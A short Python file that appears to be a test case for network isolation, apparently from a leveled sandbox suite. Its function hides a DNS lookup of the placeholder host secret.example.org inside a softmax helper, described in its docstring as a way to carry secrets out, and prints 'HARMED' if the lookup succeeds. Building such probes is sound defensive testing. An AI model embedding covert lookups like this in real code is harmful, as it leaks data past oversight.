"""Tries to carry secrets out by looking names up."""
# ends: passed
# from: level 2

import socket

import torch


def f(x):
    try:
        socket.getaddrinfo("secret.example.org", 80)
        print("HARMED")
    except OSError:
        pass
    return torch.softmax(x, -1)
